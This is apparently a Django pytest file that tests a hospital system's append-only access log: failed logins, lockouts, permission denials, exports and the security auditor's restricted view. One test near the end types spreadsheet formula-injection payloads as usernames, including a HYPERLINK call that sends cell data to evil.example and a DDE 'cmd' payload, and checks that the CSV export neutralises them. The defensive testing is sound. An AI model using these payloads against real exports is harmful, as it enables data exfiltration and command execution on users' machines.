"""The append-only access log and the security auditor who reads it (the "Trust" issue).

Sign-ins and failures, lockouts and unlocks, permission denials and exports are written by the
code paths users take; the auditor reads and searches the log and reaches nothing else.
"""

import csv
import datetime
import io

import pytest
from axes.models import AccessAttempt
from django.db import IntegrityError, InternalError, connection, transaction
from django.db.migrations.executor import MigrationExecutor
from django.db.models import F
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation

from alliance import spreadsheets
from alliance.choices import Role
from alliance.models import AccessLog
from core import audit
from core.choices import AccessKind
from tests.conftest import require_postgres
from tests.kit.factories import PatientFactory, UserFactory, staff_user

PASSWORD = "pw-for-tests"  # UserFactory's
IP = "10.20.0.7"
AUDIT = "/alliance/audit/"


@pytest.fixture
def auditor(world):
    return staff_user(Role.SECURITY_AUDITOR, world["hospital"], username="auditor_user")


def signed_in(user) -> Client:
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    client.force_login(user)
    return client


def log_in(client, username, password):
    return client.post(
        reverse("login"), {"username": username, "password": password}, REMOTE_ADDR=IP
    )


def kinds(**filters) -> list[str]:
    return list(AccessLog.objects.filter(**filters).order_by("pk").values_list("kind", flat=True))


# --- what is written ---------------------------------------------------------------------------


def test_a_failed_sign_in_is_logged_with_the_name_typed_and_never_the_password(db, client):
    UserFactory(username="nurse")
    log_in(client, "nurse", "wrong-password-123")
    log_in(client, "nobody-such", "wrong-password-456")
    failed = AccessLog.objects.filter(kind=AccessKind.LOGIN_FAILED).order_by("pk")
    assert [(e.username, e.ip_address, e.user_id) for e in failed] == [
        ("nurse", IP, None),
        ("nobody-such", IP, None),
    ]
    assert "wrong-password" not in str(list(failed.values()))


def test_sign_in_and_sign_out_are_logged_with_the_account(db, client):
    nurse = UserFactory(username="nurse")
    assert log_in(client, "nurse", PASSWORD).status_code == 302
    client.post(reverse("logout"))
    entries = AccessLog.objects.filter(user=nurse).order_by("pk")
    assert [(e.kind, e.ip_address, e.path) for e in entries] == [
        (AccessKind.LOGIN, IP, "/accounts/login/"),
        (AccessKind.LOGOUT, "127.0.0.1", "/accounts/logout/"),
    ]


def test_a_lockout_and_its_lifting_are_logged(db, client):
    UserFactory(username="nurse")
    for _ in range(5):
        log_in(client, "nurse", "not-the-password")
    assert log_in(client, "nurse", PASSWORD).status_code == 429
    assert AccessKind.LOCKOUT in kinds(username="nurse")
    assert AccessKind.UNLOCK not in kinds(username="nurse")
    # The cool-off runs out: axes removes the attempt record at the next try, the lock is gone.
    AccessAttempt.objects.update(attempt_time=F("attempt_time") - datetime.timedelta(minutes=31))
    assert log_in(client, "nurse", PASSWORD).status_code == 302
    unlock = AccessLog.objects.get(kind=AccessKind.UNLOCK, username="nurse")
    with translation.override("zh-hans"):
        assert unlock.summary == "此前连续 6 次登录失败"
    # Five failures and the refused sixth try while locked.
    assert (unlock.ip_address, unlock.detail) == (IP, {"failures": 6})


def test_an_administrator_clearing_fewer_failures_is_no_unlock(db, client):
    UserFactory(username="nurse")
    log_in(client, "nurse", "not-the-password")
    AccessAttempt.objects.all().delete()
    assert AccessKind.UNLOCK not in kinds()


def test_a_permission_denial_is_logged_for_pages_and_the_api(world, bureau_viewer, api):
    client = signed_in(bureau_viewer)
    assert client.get("/referrals/").status_code == 403
    assert api.as_user(bureau_viewer).get("/api/v1/referrals/").status_code == 403
    denied = AccessLog.objects.filter(kind=AccessKind.DENIED).order_by("pk")
    assert [(e.user, e.method, e.path) for e in denied] == [
        (bureau_viewer, "GET", "/referrals/"),
        (bureau_viewer, "GET", "/api/v1/referrals/"),
    ]


def test_an_export_is_logged_with_its_filter_and_row_count(world, alliance_office):
    year = timezone.localdate().year
    response = signed_in(alliance_office).get(
        "/reporting/", {"year": year, "format": "csv", "table": "headline"}
    )
    assert response.status_code == 200
    rows = response.content.decode("utf-8-sig").strip().splitlines()
    export = AccessLog.objects.get(kind=AccessKind.EXPORT)
    assert export.user == alliance_office
    assert export.detail["format"] == "csv"
    assert export.detail["filters"] == {"year": [str(year)], "table": ["headline"]}
    # The file: the title and the header, then the rows the log counted.
    assert export.detail["rows"] == len(rows) - 2 > 0


# --- append-only -------------------------------------------------------------------------------


@pytest.mark.parametrize("statement", ["update", "delete"])
def test_the_database_refuses_to_change_or_delete_entries(db, statement):
    require_postgres()
    entry = audit.record(AccessKind.LOGIN_FAILED, username="nurse")
    with pytest.raises((InternalError, IntegrityError)), transaction.atomic():
        if statement == "update":
            AccessLog.objects.filter(pk=entry.pk).update(username="someone-else")
        else:
            AccessLog.objects.filter(pk=entry.pk).delete()
    assert AccessLog.objects.get(pk=entry.pk).username == "nurse"


# --- the security auditor ----------------------------------------------------------------------


@pytest.fixture
def log(world, clinic_doctor, alliance_office):
    patient = PatientFactory(home_institution=world["center"], name="王秀英")
    now = timezone.now()
    entries = [
        (AccessKind.LOGIN, clinic_doctor, None, now - datetime.timedelta(days=3)),
        (AccessKind.PATIENT_VIEW, clinic_doctor, patient, now - datetime.timedelta(days=2)),
        (AccessKind.EXPORT, alliance_office, None, now - datetime.timedelta(days=1)),
        (AccessKind.DENIED, alliance_office, None, now),
    ]
    for kind, user, who, at in entries:
        AccessLog.objects.create(
            kind=kind, user=user, username=user.username, patient=who, at=at, path="/x/"
        )
    return {"patient": patient, "now": now}


def listed(response) -> list[tuple[str, str]]:
    return [(e.kind, e.username) for e in response.context["object_list"]]


def test_the_auditor_searches_by_user_patient_event_and_date(log, auditor):
    client = signed_in(auditor)
    assert listed(client.get(AUDIT, {"user": "office"})) == [
        (AccessKind.DENIED, "office_user"),
        (AccessKind.EXPORT, "office_user"),
    ]
    assert listed(client.get(AUDIT, {"patient": "秀英"})) == [
        (AccessKind.PATIENT_VIEW, "clinic_doctor")
    ]
    assert listed(client.get(AUDIT, {"patient": str(log["patient"].pk)})) == [
        (AccessKind.PATIENT_VIEW, "clinic_doctor")
    ]
    assert listed(client.get(AUDIT, {"kind": "login", "user": "clinic"})) == [
        (AccessKind.LOGIN, "clinic_doctor")
    ]
    day = timezone.localdate(log["now"] - datetime.timedelta(days=2))
    assert listed(client.get(AUDIT, {"since": day, "until": day})) == [
        (AccessKind.PATIENT_VIEW, "clinic_doctor")
    ]
    page = client.get(AUDIT).content.decode()
    assert "安全审计" in page and "王秀英" in page and "查看患者档案" in page


def test_a_bad_search_is_a_field_error_not_a_failure(log, auditor):
    response = signed_in(auditor).get(AUDIT, {"since": "2026-13-45", "patient": "9" * 30})
    assert response.status_code == 200
    assert "输入一个有效的日期" in response.content.decode()


def test_the_auditors_export_is_the_search_and_is_itself_logged(log, auditor):
    response = signed_in(auditor).get(AUDIT, {"user": "office", "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="access-log-')
    lines = b"".join(response.streaming_content).decode("utf-8-sig").strip().splitlines()
    assert lines[0].startswith("访问日志 · 用户：office · 导出于 ")
    assert lines[1] == "时间,事件,用户,IP 地址,请求方法,地址,患者,详情"
    assert [line.split(",")[1] for line in lines[2:]] == ["权限拒绝", "导出数据"]
    export = AccessLog.objects.filter(user=auditor, kind=AccessKind.EXPORT).get()
    assert export.detail == {
        "table": "access_log",
        "format": "csv",
        "filters": {"user": "office"},
        "rows": 2,
    }
    with translation.override("zh-hans"):
        assert export.summary == "access_log，csv 格式，2 行；筛选条件：user=office"


def test_the_audit_page_runs_a_fixed_number_of_queries(log, auditor, clinic_doctor):
    client = signed_in(auditor)
    client.get(AUDIT)

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            assert client.get(AUDIT).status_code == 200
        return len(queries)

    before = count()
    for _ in range(5):
        AccessLog.objects.create(
            kind=AccessKind.PATIENT_VIEW,
            user=clinic_doctor,
            username="clinic_doctor",
            patient=PatientFactory(),
        )
    assert count() == before


@pytest.mark.parametrize(
    "persona",
    [
        "clinic_doctor",
        "hospital_triage",
        "center_staff",
        "alliance_office",
        "bureau_viewer",
        "no_profile_user",
    ],
)
def test_nobody_but_the_auditor_and_the_superuser_reads_the_log(log, persona, request, superuser):
    assert signed_in(request.getfixturevalue(persona)).get(AUDIT).status_code == 403
    assert signed_in(superuser).get(AUDIT).status_code == 200


def test_the_auditor_reaches_nothing_else(log, auditor, api):
    client = signed_in(auditor)
    assert client.get("/").url == AUDIT  # home is the access log
    for url in ("/referrals/", "/centers/orders/", "/reporting/", "/centers/worklist/"):
        assert client.get(url).status_code == 403, url
    as_auditor = api.as_user(auditor)
    for url in (
        "/api/v1/patients/",
        "/api/v1/referrals/",
        "/api/v1/orders/",
        "/api/v1/indicators/",
    ):
        response = as_auditor.get(url)
        assert response.status_code == 403 or response.json()["count"] == 0, url
    patient = log["patient"]
    assert as_auditor.get(f"/api/v1/patients/{patient.pk}/").status_code in (403, 404)
    page = client.get(AUDIT).content.decode()
    for link in (
        'href="/alliance/institutions/"',
        'href="/referrals/',
        'href="/centers/',
        'href="/reporting/',
    ):
        assert link not in page, link  # the navigation offers nothing but the log


# --- the migration that folded PatientAccess into the access log --------------------------------


def migrate_to(targets) -> None:
    executor = MigrationExecutor(connection)
    executor.loader.build_graph()
    executor.migrate(targets)


@pytest.mark.django_db(transaction=True)
def test_the_migration_moves_the_patient_record_accesses_into_the_access_log(transactional_db):
    user = UserFactory(username="old_viewer")
    patient = PatientFactory(name="迁移测试")
    latest = MigrationExecutor(connection).loader.graph.leaf_nodes()
    migrate_to([("alliance", "0006_patient_id_number_hash_unique")])
    try:
        at = connection.ops.adapt_datetimefield_value(timezone.now())
        with connection.cursor() as cursor:
            for action, fields in (("view", "[]"), ("update", '["phone"]')):
                cursor.execute(
                    "INSERT INTO alliance_patientaccess (patient_id, user_id, action, at, channel,"
                    " fields) VALUES (%s, %s, %s, %s, 'web', %s)",
                    [patient.pk, user.pk, action, at, fields],
                )
    finally:
        migrate_to(latest)
    moved = AccessLog.objects.filter(patient_id=patient.pk).order_by("pk")
    assert [(e.kind, e.user_id, e.username, e.detail) for e in moved] == [
        (AccessKind.PATIENT_VIEW, user.pk, "old_viewer", {"channel": "web"}),
        (AccessKind.PATIENT_UPDATE, user.pk, "old_viewer", {"channel": "web", "fields": ["phone"]}),
    ]


def test_a_username_typed_as_a_formula_arrives_as_text_in_the_auditors_csv(db, auditor):
    typed = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    # (a leading tab or carriage return is stripped by the sign-in form: tests/reporting has them)
    for name in (typed, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"):
        log_in(Client(), name, "wrong-password-123")
    since = timezone.localdate().isoformat()
    response = signed_in(auditor).get(
        AUDIT, {"kind": AccessKind.LOGIN_FAILED, "since": since, "format": "csv"}
    )
    assert response["Content-Disposition"] == f'attachment; filename="access-log-{since}.csv"'
    title, header, *rows = csv.reader(
        io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))
    )
    assert title[0].startswith(f"访问日志 · 事件：登录失败 · {since} – … · 导出于 ")
    assert sorted(row[2] for row in rows) == sorted(
        ["'" + typed, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1)"]
    )
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(spreadsheets.FORMULA_STARTS)]


# Issue 13, item 7: a patient access carries its source like a sign-in does.
@pytest.mark.parametrize("channel", ["api", "page"])
def test_patient_accesses_carry_address_method_and_path(world, clinic_doctor, api, channel):
    patient = world["patient"]
    if channel == "api":
        api.as_user(clinic_doctor).get(f"/api/v1/patients/{patient.pk}/", REMOTE_ADDR="10.1.2.3")
        path = f"/api/v1/patients/{patient.pk}/"
    else:
        client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
        client.force_login(clinic_doctor)
        client.get(f"/alliance/patients/{patient.pk}/", REMOTE_ADDR="10.1.2.3")
        path = f"/alliance/patients/{patient.pk}/"

    row = AccessLog.objects.patient_accesses().get(patient=patient)

    assert (row.ip_address, row.method, row.path) == ("10.1.2.3", "GET", path)
    assert row.user == clinic_doctor


def test_the_audit_page_shows_the_users_full_name_and_address(world, clinic_doctor):
    clinic_doctor.first_name = "王医生"
    clinic_doctor.save()
    AccessLog.objects.create(
        kind=AccessKind.PATIENT_VIEW,
        user=clinic_doctor,
        username="clinic_doctor",
        ip_address="10.9.8.7",
        method="GET",
        path="/x/",
    )
    auditor = staff_user(Role.SECURITY_AUDITOR, world["hospital"], username="auditor_fn")
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    client.force_login(auditor)

    html = client.get("/alliance/audit/").content.decode()

    assert "王医生" in html and "10.9.8.7" in html
